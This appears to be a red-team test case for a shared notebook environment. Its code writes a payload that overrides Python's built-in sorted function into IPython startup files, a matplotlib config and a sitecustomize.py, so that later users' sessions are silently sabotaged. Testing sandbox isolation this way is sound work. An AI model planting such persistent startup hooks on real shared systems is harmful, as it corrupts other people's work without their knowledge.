# Leaves files where the next student's kernel would find them: home, temporary folders, shared memory.
# succeeds: disturbs

# %% median
import os
from pathlib import Path

_code = "import builtins\nbuiltins.sorted = lambda *a, **k: []\n"
for _place in (
    Path.home() / ".ipython/profile_default/startup/00.py",
    Path.home() / ".ipython/profile_default/ipython_config.py",
    Path.home() / ".config/matplotlib/matplotlibrc",
    Path("..") / "sitecustomize.py",
):
    try:
        _place.parent.mkdir(parents=True, exist_ok=True)
        if str(_place).startswith("..") or "redteam" in str(Path.home()) or "/tmp" in str(Path.home()):
            _place.write_text(_code)
    except OSError as error:
        print(error)
